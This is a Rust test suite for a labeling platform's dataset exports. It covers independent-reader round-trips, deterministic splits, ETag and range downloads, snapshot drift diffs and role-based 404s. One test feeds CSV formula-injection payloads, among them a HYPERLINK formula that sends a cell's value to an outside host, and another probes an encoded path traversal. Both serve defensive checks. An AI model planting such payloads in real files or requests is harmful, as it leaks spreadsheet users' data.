//! Exports over HTTP: every format read back by a reader that is not ours (pyarrow for
//! Parquet, a standard-library Python TFRecord/tf.Example reader) and checked row by row against
//! the database; deterministic and grouped splits; CSV formula neutralisation; byte-identical,
//! content-addressed downloads with ETag, 304 and ranges; the diff between snapshots on a
//! hand-made case; and 404 for everyone who may not export.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::path::Path;
use std::process::Command;

use hmac::{Hmac, Mac};
use quorum::domain::role::Role;
use reqwest::Method;
use serde_json::{Value, json};

use crate::labeling::{rater, task_with_items};
use crate::parts::{Part, have};
use crate::support::*;

/// The status of a GET without credentials.
async fn anonymous_status(app: &TestApp, path: &str) -> u16 {
    app.anon_get(path).await.status().as_u16()
}

/// Lets each rater lease and label until nothing is left; `answer(rater, item text)` decides.
pub async fn label_everything(
    raters: &[Api],
    task: i64,
    answer: impl Fn(usize, &str) -> &'static str,
) {
    for (r, api) in raters.iter().enumerate() {
        let mut n = 0;
        loop {
            let res = api
                .client
                .post(api.url(&format!("/api/v1/tasks/{task}/shards")))
                .send()
                .await
                .unwrap();
            if res.status() == 204 {
                break;
            }
            assert_eq!(res.status(), 200);
            let shard: Value = res.json().await.unwrap();
            let sid = shard["id"].as_i64().unwrap();
            for item in shard["items"].as_array().unwrap() {
                n += 1;
                let text = item["data"]["text"].as_str().unwrap_or("");
                let res = api
                    .post_json(
                        &format!("/api/v1/shards/{sid}/labels"),
                        &json!({"item_id": item["id"], "value": answer(r, text),
                            "duration_ms": 900, "submission_key": format!("k{r}-{n}")}),
                    )
                    .await;
                assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
            }
        }
    }
}

/// A task whose items all have three labels and a final label (majority or unanimous).
async fn labeled_task(app: &TestApp, n: usize) -> (i64, Api) {
    let (task, admin) = task_with_items(app, 3, n, 50, 30).await;
    let mut raters = Vec::new();
    for name in ["rita", "ravi", "rosa"] {
        raters.push(rater(app, &admin, task, name).await);
    }
    label_everything(&raters, task, |r, text| {
        let i: usize = text.rsplit(' ').next().unwrap_or("0").parse().unwrap_or(0);
        if (i + r).is_multiple_of(4) {
            "neg"
        } else {
            "pos"
        }
    })
    .await;
    (task, admin)
}

pub async fn export(admin: &Api, task: i64, body: Value) -> Value {
    let res = admin
        .post_json(&format!("/api/v1/tasks/{task}/exports"), &body)
        .await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    res.json().await.unwrap()
}

pub async fn download(admin: &Api, id: &Value) -> Vec<u8> {
    let res = admin.get(&format!("/api/v1/exports/{id}/download")).await;
    assert_eq!(res.status(), 200);
    res.bytes().await.unwrap().to_vec()
}

/// One row as the database has it, read with plain SQL (not through the export code).
#[derive(Debug, Clone)]
struct DbRow {
    external_id: String,
    data: Value,
    label: String,
    confidence: f64,
    method: String,
    votes: BTreeMap<String, i64>,
    /// (user id, value) per label, in submission order.
    raters: Vec<(i64, String)>,
}

async fn db_rows(app: &TestApp, task: i64) -> BTreeMap<i64, DbRow> {
    let rows: Vec<(i64, String, String, String, String, f64, String)> = sqlx::query_as(
        "SELECT i.id, i.external_id, i.data_json, r.value_json, r.method, r.confidence, r.votes_json
         FROM items i JOIN resolutions r ON r.item_id = i.id WHERE i.task_id = $1 ORDER BY i.id",
    )
    .bind(task)
    .fetch_all(&app.state.db.pool)
    .await
    .unwrap();
    let labels: Vec<(i64, i64, String)> = sqlx::query_as(
        "SELECT item_id, user_id, value_json FROM labels WHERE task_id = $1 ORDER BY item_id, id",
    )
    .bind(task)
    .fetch_all(&app.state.db.pool)
    .await
    .unwrap();
    let mut out = BTreeMap::new();
    for (id, ext, data, value, method, confidence, votes) in rows {
        let votes: BTreeMap<String, i64> = serde_json::from_str::<BTreeMap<String, i64>>(&votes)
            .unwrap()
            .into_iter()
            .map(|(k, n)| (serde_json::from_str::<String>(&k).unwrap(), n))
            .collect();
        let raters = labels
            .iter()
            .filter(|l| l.0 == id)
            .map(|l| (l.1, serde_json::from_str::<String>(&l.2).unwrap()))
            .collect();
        out.insert(
            id,
            DbRow {
                external_id: ext,
                data: serde_json::from_str(&data).unwrap(),
                label: serde_json::from_str(&value).unwrap(),
                confidence,
                method,
                votes,
                raters,
            },
        );
    }
    out
}

/// The pseudonym rule, computed here from the task's salt: r_ + 16 hex of HMAC-SHA256.
async fn pseudonyms(app: &TestApp, task: i64) -> HashMap<i64, String> {
    let salt: String =
        sqlx::query_scalar("SELECT rater_salt FROM task_export_settings WHERE task_id = $1")
            .bind(task)
            .fetch_one(&app.state.db.pool)
            .await
            .unwrap();
    let users: Vec<i64> =
        sqlx::query_scalar("SELECT DISTINCT user_id FROM labels WHERE task_id = $1")
            .bind(task)
            .fetch_all(&app.state.db.pool)
            .await
            .unwrap();
    users
        .into_iter()
        .map(|u| {
            let mut mac = Hmac::<sha2::Sha256>::new_from_slice(salt.as_bytes()).unwrap();
            mac.update(u.to_string().as_bytes());
            let d = mac.finalize().into_bytes();
            (u, format!("r_{}", hex::encode(&d[..8])))
        })
        .collect()
}

fn python(script: &str, file: &Path) -> Vec<Value> {
    let out = Command::new("python3")
        .arg(format!(
            "{}/tests/python/{script}",
            env!("CARGO_MANIFEST_DIR")
        ))
        .arg(file)
        .output()
        .expect("python3 runs (CI installs it with pyarrow: see .ci/run)");
    assert!(
        out.status.success(),
        "{script} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[tokio::test]
async fn every_format_reads_back_with_an_independent_reader_and_matches_the_database() {
    let app = TestApp::spawn().await;
    let (task, admin) = labeled_task(&app, 30).await;
    let expected = db_rows(&app, task).await;
    assert_eq!(expected.len(), 30, "every item has a final label");
    assert!(expected.values().any(|r| r.method == "majority"));
    assert!(expected.values().any(|r| r.method == "unanimous"));
    let settings = json!({"include_votes": true,
        "splits": {"train": 0.6, "validation": 0.2, "test": 0.2, "seed": 7}});
    let mut splits_by_format: Vec<BTreeMap<i64, String>> = Vec::new();
    let mut names = HashMap::new();
    let dir = tempfile::tempdir().unwrap();
    for format in ["jsonl", "csv", "parquet", "tfrecord"] {
        if format == "parquet" && !have(Part::Pyarrow, "reading Parquet exports back with pyarrow")
        {
            continue;
        }
        let mut body = settings.clone();
        body["format"] = format.into();
        let made = export(&admin, task, body).await;
        assert_eq!(made["rows"], 30, "{format}");
        if names.is_empty() {
            // The task's pseudonym key exists from its first export on.
            names = pseudonyms(&app, task).await;
        }
        let bytes = download(&admin, &made["id"]).await;
        use sha2::Digest;
        assert_eq!(made["sha256"], hex::encode(sha2::Sha256::digest(&bytes)));
        let path = dir.path().join(format!("x.{format}"));
        std::fs::write(&path, &bytes).unwrap();
        // Normalise every format to: id → (external_id, data, label, index, confidence, method,
        // votes, split, rater votes).
        let mut got: BTreeMap<i64, Value> = BTreeMap::new();
        match format {
            "jsonl" => {
                for line in std::str::from_utf8(&bytes).unwrap().lines() {
                    let v: Value = serde_json::from_str(line).unwrap();
                    let votes: Vec<Value> = v["rater_votes"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .map(|r| json!([r["rater"], r["value"]]))
                        .collect();
                    got.insert(
                        v["item_id"].as_i64().unwrap(),
                        json!([
                            v["external_id"],
                            v["data"],
                            v["label"],
                            v["label_index"],
                            v["confidence"],
                            v["method"],
                            v["votes"],
                            v["split"],
                            votes,
                            v["vote_count"]
                        ]),
                    );
                }
            }
            "csv" => {
                let mut r = csv::Reader::from_reader(&bytes[..]);
                let h = r.headers().unwrap().clone();
                let col = |name: &str| h.iter().position(|c| c == name).unwrap();
                for rec in r.records() {
                    let rec = rec.unwrap();
                    let votes: Vec<Value> =
                        serde_json::from_str::<Vec<Value>>(&rec[col("rater_votes")])
                            .unwrap()
                            .iter()
                            .map(|r| json!([r["rater"], r["value"]]))
                            .collect();
                    got.insert(
                        rec[col("item_id")].parse().unwrap(),
                        json!([
                            rec[col("external_id")],
                            serde_json::from_str::<Value>(&rec[col("data")]).unwrap(),
                            rec[col("label")],
                            rec[col("label_index")].parse::<i64>().unwrap(),
                            rec[col("confidence")].parse::<f64>().unwrap(),
                            rec[col("method")],
                            serde_json::from_str::<Value>(&rec[col("votes")]).unwrap(),
                            rec[col("split")],
                            votes,
                            rec[col("vote_count")].parse::<i64>().unwrap()
                        ]),
                    );
                }
            }
            "parquet" => {
                let rows = python("read_parquet.py", &path);
                let schema = &rows[0]["schema"];
                assert_eq!(schema["item_id"], "int64");
                assert_eq!(schema["external_id"], "string");
                assert_eq!(schema["label"], "string");
                assert_eq!(schema["label_index"], "int32");
                assert_eq!(schema["confidence"], "double");
                assert_eq!(schema["is_gold"], "bool");
                assert_eq!(schema["vote_count"], "int32");
                assert!(
                    schema["votes"]
                        .as_str()
                        .unwrap()
                        .starts_with("map<string, int32"),
                    "{schema}"
                );
                assert!(
                    schema["rater_votes"]
                        .as_str()
                        .unwrap()
                        .starts_with("list<item: struct<rater: string"),
                    "{schema}"
                );
                assert_eq!(rows[0]["rows"], 30);
                for v in &rows[1..] {
                    let votes: serde_json::Map<String, Value> = v["votes"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .map(|kv| (kv[0].as_str().unwrap().to_string(), kv[1].clone()))
                        .collect();
                    let rv: Vec<Value> = v["rater_votes"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .map(|r| json!([r["rater"], r["value"]]))
                        .collect();
                    got.insert(
                        v["item_id"].as_i64().unwrap(),
                        json!([
                            v["external_id"],
                            serde_json::from_str::<Value>(v["data"].as_str().unwrap()).unwrap(),
                            v["label"],
                            v["label_index"],
                            v["confidence"],
                            v["method"],
                            votes,
                            v["split"],
                            rv,
                            v["vote_count"]
                        ]),
                    );
                }
            }
            _ => {
                let records = python("read_tfrecord.py", &path);
                for f in &records {
                    let one = |k: &str, kind: &str| f[k][kind][0].clone();
                    let votes: serde_json::Map<String, Value> = f["vote_values"]["bytes"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .zip(f["vote_counts"]["int64"].as_array().unwrap())
                        .map(|(k, n)| (k.as_str().unwrap().to_string(), n.clone()))
                        .collect();
                    let rv: Vec<Value> = f["rater_ids"]["bytes"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .zip(f["rater_values"]["bytes"].as_array().unwrap())
                        .map(|(r, v)| json!([r, v]))
                        .collect();
                    // Data fields also come one by one, as TFX reads them.
                    assert_eq!(
                        one("data_text", "bytes"),
                        serde_json::from_str::<Value>(one("data", "bytes").as_str().unwrap())
                            .unwrap()["text"]
                    );
                    // The float feature is 32-bit: compare the confidence at that precision.
                    let c = one("confidence", "float").as_f64().unwrap();
                    got.insert(
                        one("item_id", "int64").as_i64().unwrap(),
                        json!([
                            one("external_id", "bytes"),
                            serde_json::from_str::<Value>(one("data", "bytes").as_str().unwrap())
                                .unwrap(),
                            one("label", "bytes"),
                            one("label_index", "int64"),
                            (c * 1e6).round() / 1e6,
                            one("method", "bytes"),
                            votes,
                            one("split", "bytes"),
                            rv,
                            one("vote_count", "int64")
                        ]),
                    );
                }
            }
        }
        assert_eq!(
            got.len(),
            expected.len(),
            "{format}: one row per resolved item"
        );
        let mut splits = BTreeMap::new();
        for (id, want) in &expected {
            let g = &got[id];
            let index = if want.label == "pos" { 0 } else { 1 };
            let confidence = if format == "tfrecord" {
                ((want.confidence as f32) as f64 * 1e6).round() / 1e6
            } else {
                want.confidence
            };
            let raters: Vec<Value> = want
                .raters
                .iter()
                .map(|(u, v)| json!([names[u], v]))
                .collect();
            let wanted = json!([
                want.external_id,
                want.data,
                want.label,
                index,
                confidence,
                want.method,
                want.votes,
                g[7],
                raters,
                want.votes.values().sum::<i64>()
            ]);
            assert_eq!(g, &wanted, "{format}: item {id}");
            let split = g[7].as_str().unwrap().to_string();
            assert!(["train", "validation", "test"].contains(&split.as_str()));
            splits.insert(*id, split);
        }
        // Raters appear only under pseudonyms.
        assert!(
            !String::from_utf8_lossy(&bytes).contains("rita"),
            "{format} names a rater"
        );
        splits_by_format.push(splits);
    }
    assert!(
        splits_by_format.windows(2).all(|w| w[0] == w[1]),
        "every format splits alike"
    );
}

#[tokio::test]
async fn splits_are_deterministic_grouped_and_stable_as_items_arrive() {
    let app = TestApp::spawn().await;
    let admin = app.bearer(&app.token("admin").await);
    let res = admin
        .post_json("/api/v1/tasks", &json!({"name": "Docs", "schema": {"kind": "single_choice",
            "options": [{"value": "a", "label": "A"}, {"value": "b", "label": "B"}]}, "state": "active"}))
        .await;
    let task = res.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let body: String = (0..200)
        .map(|i| {
            format!(
                "{{\"external_id\": \"s{i}\", \"text\": \"t{i}\", \"doc\": \"d{}\"}}\n",
                i % 20
            )
        })
        .collect();
    let res = admin
        .post_body(
            &format!("/api/v1/tasks/{task}/items"),
            "application/x-ndjson",
            body,
        )
        .await;
    assert_eq!(res.status(), 200);
    let splits = |seed: u64, group: Option<&str>| {
        json!({"format": "jsonl", "only_resolved": false,
            "splits": {"train": 0.5, "validation": 0.25, "test": 0.25, "seed": seed, "group_by": group}})
    };
    let read = |bytes: Vec<u8>| -> BTreeMap<String, (String, String)> {
        std::str::from_utf8(&bytes)
            .unwrap()
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                (
                    v["external_id"].as_str().unwrap().to_string(),
                    (
                        v["split"].as_str().unwrap().to_string(),
                        v["data"]["doc"].as_str().unwrap().to_string(),
                    ),
                )
            })
            .collect()
    };
    let a = export(&admin, task, splits(1, None)).await;
    let b = export(&admin, task, splits(1, None)).await;
    assert_eq!(
        a["sha256"], b["sha256"],
        "same settings, same data: same bytes"
    );
    let first = read(download(&admin, &a["id"]).await);
    assert_eq!(first.len(), 200);
    let counts = first.values().fold(HashMap::new(), |mut m, (s, _)| {
        *m.entry(s.clone()).or_insert(0) += 1;
        m
    });
    assert!(counts.len() == 3 && counts["train"] > 70, "{counts:?}");
    let other_seed =
        read(download(&admin, &export(&admin, task, splits(2, None)).await["id"]).await);
    let moved = first
        .iter()
        .filter(|(k, v)| other_seed[*k].0 != v.0)
        .count();
    assert!(moved > 40, "another seed reshuffles ({moved} moved)");
    // Grouped: every row of a document in one split, and more than one split used.
    let grouped = read(
        download(
            &admin,
            &export(&admin, task, splits(1, Some("doc"))).await["id"],
        )
        .await,
    );
    let mut by_doc: HashMap<String, HashSet<String>> = HashMap::new();
    for (split, doc) in grouped.values() {
        by_doc.entry(doc.clone()).or_default().insert(split.clone());
    }
    assert_eq!(by_doc.len(), 20);
    assert!(by_doc.values().all(|s| s.len() == 1), "{by_doc:?}");
    let used: HashSet<&String> = by_doc.values().flatten().collect();
    assert!(used.len() >= 2);
    // New items do not move old ones.
    let more: String = (200..260)
        .map(|i| format!("{{\"external_id\": \"s{i}\", \"text\": \"t\", \"doc\": \"d1\"}}\n"))
        .collect();
    admin
        .post_body(
            &format!("/api/v1/tasks/{task}/items"),
            "application/x-ndjson",
            more,
        )
        .await;
    let later = read(download(&admin, &export(&admin, task, splits(1, None)).await["id"]).await);
    assert_eq!(later.len(), 260);
    assert!(first.iter().all(|(k, v)| later[k].0 == v.0));
    // Bad split settings are a clear 400.
    let res = admin
        .post_json(
            &format!("/api/v1/tasks/{task}/exports"),
            &json!({"format": "jsonl", "splits": {"train": 0.9, "validation": 0.2, "test": 0.1}}),
        )
        .await;
    assert_eq!(res.status(), 400);
    assert!(res.text().await.unwrap().contains("add up to 1"));
    let res = admin
        .post_json(
            &format!("/api/v1/tasks/{task}/exports"),
            &json!({"format": "xlsx"}),
        )
        .await;
    assert_eq!(res.status(), 400);
    let res = admin
        .post_json(
            &format!("/api/v1/tasks/{task}/exports"),
            &json!({"format": "csv", "colour": 1}),
        )
        .await;
    assert_eq!(res.status(), 400);
}

#[tokio::test]
async fn empty_snapshots_are_valid_csv_neutralises_formulas_and_jsonl_is_exact() {
    let app = TestApp::spawn().await;
    let admin = app.bearer(&app.token("admin").await);
    let res = admin
        .post_json(
            "/api/v1/tasks",
            &json!({"name": "Free", "schema": {"kind": "free_text"}, "state": "active"}),
        )
        .await;
    let task = res.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let payloads = [
        "=HYPERLINK(\"http://x/?\"&A1,\"c\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "'quoted",
        "plain",
    ];
    // External ids must be printable: the ones with a tab or CR get a plain id.
    let external = |i: usize, p: &str| {
        if p.chars().any(char::is_control) {
            format!("x{i}")
        } else {
            p.to_string()
        }
    };
    let body: String = payloads
        .iter()
        .enumerate()
        .map(|(i, p)| format!("{}\n", json!({"external_id": external(i, p), "text": p})))
        .collect();
    let res = admin
        .post_body(
            &format!("/api/v1/tasks/{task}/items"),
            "application/x-ndjson",
            body,
        )
        .await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    // Nothing resolved yet: an empty snapshot is still a valid file of every format.
    for format in ["jsonl", "csv", "parquet", "tfrecord"] {
        if format == "parquet" && !have(Part::Pyarrow, "reading Parquet exports back with pyarrow")
        {
            continue;
        }
        let made = export(&admin, task, json!({"format": format})).await;
        assert_eq!(made["rows"], 0, "{format}");
        let bytes = download(&admin, &made["id"]).await;
        let path = app.dir.path().join(format!("empty.{format}"));
        std::fs::write(&path, &bytes).unwrap();
        match format {
            "parquet" => assert_eq!(python("read_parquet.py", &path)[0]["rows"], 0),
            "tfrecord" => assert!(python("read_tfrecord.py", &path).is_empty()),
            "csv" => assert_eq!(
                bytes.iter().filter(|b| **b == b'\n').count(),
                1,
                "the header only"
            ),
            _ => assert!(bytes.is_empty()),
        }
    }
    // Final labels that are formulas too (set straight in the store: free text from reviewers).
    let ids: Vec<i64> = sqlx::query_scalar("SELECT id FROM items WHERE task_id = $1 ORDER BY id")
        .bind(task)
        .fetch_all(&app.state.db.pool)
        .await
        .unwrap();
    for (id, p) in ids.iter().zip(payloads) {
        sqlx::query("INSERT INTO resolutions (item_id, task_id, value_json, method, confidence, votes_json, resolved_at) VALUES ($1, $2, $3, 'adjudicated', 1.0, '{}', 0)")
            .bind(id).bind(task).bind(json!(p).to_string()).execute(&app.state.db.pool).await.unwrap();
    }
    let csv_bytes = download(
        &admin,
        &export(&admin, task, json!({"format": "csv"})).await["id"],
    )
    .await;
    let mut r = csv::Reader::from_reader(&csv_bytes[..]);
    let h = r.headers().unwrap().clone();
    assert!(
        !h.iter().any(|c| c == "label_index"),
        "free text has no index column"
    );
    let mut seen = 0;
    let quoted = |v: &str| {
        if v.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
            format!("'{v}")
        } else {
            v.to_string()
        }
    };
    for (i, (rec, p)) in r.records().zip(payloads).enumerate() {
        let rec = rec.unwrap();
        let want = if p == "plain" {
            p.to_string()
        } else {
            format!("'{p}")
        };
        assert_eq!(&rec[1], quoted(&external(i, p)), "external_id cell");
        assert_eq!(&rec[3], want, "label cell");
        assert_eq!(
            serde_json::from_str::<Value>(&rec[2]).unwrap()["text"],
            p,
            "the data cell is JSON text"
        );
        // Removing the one leading quote gives the value back, as documented.
        assert_eq!(rec[3].strip_prefix('\'').unwrap_or(&rec[3]), p);
        seen += 1;
    }
    assert_eq!(seen, payloads.len());
    let jsonl = download(
        &admin,
        &export(&admin, task, json!({"format": "jsonl"})).await["id"],
    )
    .await;
    for (i, (line, p)) in std::str::from_utf8(&jsonl)
        .unwrap()
        .lines()
        .zip(payloads)
        .enumerate()
    {
        let v: Value = serde_json::from_str(line).unwrap();
        assert_eq!(v["external_id"], external(i, p));
        assert_eq!(v["data"]["text"], p);
        assert_eq!(v["label"], p, "JSONL is byte-exact");
    }
}

#[tokio::test]
async fn downloads_are_byte_identical_content_addressed_with_etag_304_and_ranges() {
    let app = TestApp::spawn().await;
    let (task, admin) = labeled_task(&app, 12).await;
    let a = export(&admin, task, json!({"format": "parquet"})).await;
    let b = export(&admin, task, json!({"format": "parquet"})).await;
    assert_ne!(a["id"], b["id"]);
    assert_eq!(a["sha256"], b["sha256"]);
    let first = download(&admin, &a["id"]).await;
    assert_eq!(first, download(&admin, &a["id"]).await);
    assert_eq!(first, download(&admin, &b["id"]).await);
    // One file for the one content, named by its hash, outside anything served.
    let dir = app.state.config.data_dir.join("exports");
    let files: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().to_string())
        .filter(|n| n.ends_with(".parquet"))
        .collect();
    assert_eq!(
        files,
        vec![format!("{}.parquet", a["sha256"].as_str().unwrap())]
    );
    assert_eq!(
        anonymous_status(&app, &format!("/static/..%2Fexports%2F{}", files[0])).await,
        404
    );

    let url = admin.url(&format!("/api/v1/exports/{}/download", a["id"]));
    let res = admin.client.get(&url).send().await.unwrap();
    let etag = res.headers()["etag"].to_str().unwrap().to_string();
    assert_eq!(etag, format!("\"{}\"", a["sha256"].as_str().unwrap()));
    assert_eq!(
        res.headers()["content-type"],
        "application/vnd.apache.parquet"
    );
    assert_eq!(res.headers()["accept-ranges"], "bytes");
    assert_eq!(
        res.headers()["content-disposition"].to_str().unwrap(),
        format!(
            "attachment; filename=\"task-{task}-export-{}.parquet\"",
            a["id"]
        )
    );
    let res = admin
        .client
        .get(&url)
        .header("if-none-match", &etag)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 304);
    assert!(res.bytes().await.unwrap().is_empty());
    let res = admin
        .client
        .get(&url)
        .header("if-none-match", "\"other\"")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let res = admin
        .client
        .get(&url)
        .header("range", "bytes=4-11")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 206);
    assert_eq!(
        res.headers()["content-range"].to_str().unwrap(),
        format!("bytes 4-11/{}", first.len())
    );
    assert_eq!(res.bytes().await.unwrap(), first[4..12]);
    let res = admin
        .client
        .get(&url)
        .header("range", "bytes=-4")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 206);
    assert_eq!(
        res.bytes().await.unwrap(),
        first[first.len() - 4..],
        "a Parquet file ends in PAR1"
    );
    let res = admin
        .client
        .get(&url)
        .header("range", format!("bytes={}-", first.len()))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 416);
    assert_eq!(
        res.headers()["content-range"].to_str().unwrap(),
        format!("bytes */{}", first.len())
    );
    // A range for other content (If-Range with another tag) gets the whole file.
    let res = admin
        .client
        .get(&url)
        .header("range", "bytes=0-3")
        .header("if-range", "\"old\"")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);

    // JSONL and CSV content types; the same snapshot through the command line is the same bytes.
    let j = export(&admin, task, json!({"format": "jsonl"})).await;
    let res = admin
        .get(&format!("/api/v1/exports/{}/download", j["id"]))
        .await;
    assert_eq!(res.headers()["content-type"], "application/x-ndjson");
    let jsonl = res.bytes().await.unwrap();
    let out = app.dir.path().join("cli.jsonl");
    let args = quorum::export::cli::ExportArgs {
        task,
        format: "jsonl".into(),
        out: out.clone(),
        all: false,
        include_votes: false,
        exclude_gold: false,
        min_confidence: None,
        train: None,
        validation: None,
        test: None,
        seed: 0,
        group_by: None,
    };
    quorum::export::cli::run_export(&app.state.db, &app.state.config.data_dir, args)
        .await
        .unwrap();
    assert_eq!(std::fs::read(&out).unwrap(), jsonl.to_vec());
    let c = export(&admin, task, json!({"format": "csv"})).await;
    let res = admin
        .get(&format!("/api/v1/exports/{}/download", c["id"]))
        .await;
    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");

    // The listing, the card and its page.
    let list: Value = admin
        .get(&format!("/api/v1/tasks/{task}/exports"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        list["exports"].as_array().unwrap().len(),
        5,
        "four by API, one by the command line"
    );
    let one: Value = admin
        .get(&format!("/api/v1/exports/{}", a["id"]))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(one["card"]["rows"], 12);
    assert_eq!(one["card"]["raters"], 3);
    assert_eq!(one["card"]["labels"], 36);
    assert_eq!(one["card"]["instruction_versions"]["1"], 36);
    assert!(one["card"]["agreement"]["fleiss_kappa"].is_number());
    assert!(one["card"]["agreement"]["krippendorff_alpha"].is_number());
    assert_eq!(one["schema"]["columns"][0]["name"], "item_id");
    let admin_page = app.admin().await;
    let html = admin_page
        .get(&format!("/admin/exports/{}", a["id"]))
        .await
        .text()
        .await
        .unwrap();
    assert!(html.contains("Krippendorff"), "the card page");
    let html = admin_page
        .get(&format!("/admin/tasks/{task}/exports"))
        .await
        .text()
        .await
        .unwrap();
    assert!(html.contains(&format!("/api/v1/exports/{}/download", a["id"])));
}

#[tokio::test]
async fn diff_between_snapshots_on_a_hand_made_case() {
    let app = TestApp::spawn().await;
    let (task, admin) = task_with_items(&app, 3, 10, 20, 30).await;
    let ids: Vec<i64> = sqlx::query_scalar("SELECT id FROM items WHERE task_id = $1 ORDER BY id")
        .bind(task)
        .fetch_all(&app.state.db.pool)
        .await
        .unwrap();
    let resolve = |i: usize, value: &'static str| {
        let pool = app.state.db.pool.clone();
        let id = ids[i];
        async move {
            sqlx::query("INSERT INTO resolutions (item_id, task_id, value_json, method, confidence, votes_json, resolved_at)
                 VALUES ($1, $2, $3, 'majority', 0.67, $4, 0)
                 ON CONFLICT (item_id) DO UPDATE SET value_json = excluded.value_json, votes_json = excluded.votes_json")
                .bind(id).bind(task).bind(json!(value).to_string())
                .bind(json!({json!(value).to_string(): 2, "\"other\"": 1}).to_string())
                .execute(&pool).await.unwrap();
        }
    };
    // Snapshot A: items 0–7, six pos and two neg → pos 0.75, neg 0.25.
    for i in 0..8 {
        resolve(i, if i < 6 { "pos" } else { "neg" }).await;
    }
    let a = export(&admin, task, json!({"format": "jsonl"})).await;
    assert_eq!(a["diff"]["previous_export_id"], Value::Null);
    // Then: item 0 loses its label (removed), items 8 and 9 arrive as neg (added), item 1
    // turns neg (relabeled). B has items 1–9: pos 2–5 (4), neg 1, 6, 7, 8, 9 (5).
    sqlx::query("DELETE FROM resolutions WHERE item_id = $1")
        .bind(ids[0])
        .execute(&app.state.db.pool)
        .await
        .unwrap();
    resolve(8, "neg").await;
    resolve(9, "neg").await;
    resolve(1, "neg").await;
    let b = export(&admin, task, json!({"format": "tfrecord"})).await;
    let d = &b["diff"];
    assert_eq!(d["previous_export_id"], a["id"]);
    assert_eq!(
        (
            d["rows_added"].as_i64(),
            d["rows_removed"].as_i64(),
            d["rows_relabeled"].as_i64(),
            d["rows_unchanged"].as_i64()
        ),
        (Some(2), Some(1), Some(1), Some(6))
    );
    // pos 0.75 → 4/9, neg 0.25 → 5/9: both move by 0.75 − 4/9 = 0.30556.
    let linf = d["label_distribution_linf"].as_f64().unwrap();
    assert!((linf - (0.75 - 4.0 / 9.0)).abs() < 1e-9, "{linf}");
    assert_eq!(d["drift_threshold"], 0.1);
    assert_eq!(d["drift"], true);
    assert_eq!(b["card"]["splits"]["all"]["labels"]["neg"], 5);
    // A looser threshold set on the task: the same change is no longer flagged.
    let res = admin
        .send_json(
            Method::PATCH,
            &format!("/api/v1/tasks/{task}/export-settings"),
            &json!({"drift_threshold": 0.5}),
        )
        .await;
    assert_eq!(res.status(), 200);
    let res = admin
        .send_json(
            Method::PATCH,
            &format!("/api/v1/tasks/{task}/export-settings"),
            &json!({"drift_threshold": 7}),
        )
        .await;
    assert_eq!(res.status(), 400);
    sqlx::query("DELETE FROM resolutions WHERE item_id IN ($1, $2)")
        .bind(ids[8])
        .bind(ids[9])
        .execute(&app.state.db.pool)
        .await
        .unwrap();
    resolve(0, "pos").await;
    resolve(1, "pos").await;
    let c = export(&admin, task, json!({"format": "csv"})).await;
    let d = &c["diff"];
    assert_eq!(d["previous_export_id"], b["id"]);
    assert_eq!(
        (
            d["rows_added"].as_i64(),
            d["rows_removed"].as_i64(),
            d["rows_relabeled"].as_i64()
        ),
        (Some(1), Some(2), Some(1))
    );
    // Back to A: pos 0.75, neg 0.25 against 4/9 and 5/9.
    assert!((d["label_distribution_linf"].as_f64().unwrap() - (0.75 - 4.0 / 9.0)).abs() < 1e-9);
    assert_eq!(
        d["drift"], false,
        "0.31 is under the task's threshold of 0.5"
    );
}

#[tokio::test]
async fn raters_get_404_on_every_export_route_and_reviewers_only_when_allowed() {
    let app = TestApp::spawn().await;
    let (task, admin) = labeled_task(&app, 6).await;
    let made = export(&admin, task, json!({"format": "jsonl"})).await;
    let id = made["id"].as_i64().unwrap();
    app.create_user("rev", Role::Reviewer).await;
    let reviewer = app.bearer(&app.token("rev").await);
    let rater = app.bearer(&app.token("rita").await);
    let api_routes = [
        (Method::POST, format!("/api/v1/tasks/{task}/exports")),
        (Method::GET, format!("/api/v1/tasks/{task}/exports")),
        (Method::GET, format!("/api/v1/tasks/{task}/export-settings")),
        (
            Method::PATCH,
            format!("/api/v1/tasks/{task}/export-settings"),
        ),
        (Method::GET, format!("/api/v1/exports/{id}")),
        (Method::GET, format!("/api/v1/exports/{id}/download")),
    ];
    let before = app.count("SELECT COUNT(*) FROM exports").await;
    for who in [&rater, &reviewer] {
        for (method, path) in &api_routes {
            let res = who
                .send_json(
                    method.clone(),
                    path,
                    &json!({"format": "jsonl", "reviewers_can_export": true}),
                )
                .await;
            assert_eq!(res.status(), 404, "{method} {path}");
            let text = res.text().await.unwrap();
            assert!(!text.contains(made["sha256"].as_str().unwrap()));
        }
    }
    // The pages, through a browser session, answer the same.
    let rater_page = app.login("rita", PASSWORD).await;
    for path in [
        format!("/admin/tasks/{task}/exports"),
        format!("/admin/exports/{id}"),
    ] {
        assert_eq!(rater_page.get(&path).await.status(), 404, "{path}");
    }
    for path in [
        format!("/admin/tasks/{task}/exports"),
        format!("/admin/tasks/{task}/export-settings"),
    ] {
        let res = rater_page
            .post_form(
                &path,
                &[
